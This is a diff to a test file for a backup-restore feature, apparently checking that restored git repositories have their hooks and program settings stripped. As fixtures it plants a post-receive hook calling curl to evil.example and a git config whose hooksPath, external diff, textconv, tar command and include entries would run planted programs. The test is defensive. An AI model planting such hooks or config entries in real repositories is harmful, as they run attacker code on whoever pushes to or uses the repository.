@@ -1,3 +1,4 @@
+import { execFileSync } from 'node:child_process';
 import { randomUUID } from 'node:crypto';
 import fs from 'node:fs';
 import os from 'node:os';
@@ -118,6 +119,25 @@ describe('restore is all or nothing', () => {
     fs.mkdirSync(path.join(gitDir, 'objects'), { recursive: true });
     fs.mkdirSync(path.join(gitDir, 'hooks'));
     fs.writeFileSync(path.join(gitDir, 'HEAD'), 'ref: refs/heads/main\n');
+    fs.writeFileSync(
+      path.join(gitDir, 'config'),
+      [
+        '[core]',
+        '\tbare = true',
+        '\thooksPath = /tmp/planted-hooks',
+        '[receive]',
+        '\tdenyDeletes = true',
+        '[diff]',
+        '\texternal = /tmp/planted-diff',
+        '[diff "evil"]',
+        '\ttextconv = id',
+        '[tar "tar.xz"]',
+        '\tcommand = sh -c id',
+        '[include]',
+        '\tpath = /tmp/planted.config',
+        '',
+      ].join('\n'),
+    );
     fs.writeFileSync(path.join(gitDir, 'hooks', 'post-receive'), '#!/bin/sh\ncurl https://evil.example\n', {
       mode: 0o755,
     });
@@ -189,13 +209,19 @@ describe('restore is all or nothing', () => {
     expectNothingLeft(target);
   });
 
-  it("empties every restored repository's hooks, so a planted one never runs", async () => {
+  it("empties every restored repository's hooks and program settings, so a planted one never runs", async () => {
     const file = await backupWithRepository('hooks');
     const target = path.join(scratch, 'restore-target-3');
     fs.mkdirSync(target);
     await restore(file, { dataDir: target, databaseUrl });
     expect(fs.readdirSync(path.join(target, 'repositories', 'bowling-kata.git', 'hooks'))).toEqual([]);
     expect(fs.readdirSync(path.join(target, 'tasks', 'task-1.git', 'hooks'))).toEqual([]);
+    const settings = execFileSync(
+      'git',
+      ['config', '--file', path.join(target, 'repositories', 'bowling-kata.git', 'config'), '--list'],
+      { encoding: 'utf8' },
+    );
+    expect(settings.trim().split('\n')).toEqual(['core.bare=true', 'receive.denydeletes=true']);
     expect(fs.readFileSync(path.join(target, 'repositories', 'bowling-kata.git', 'HEAD'), 'utf8')).toContain(
       'main',
     );
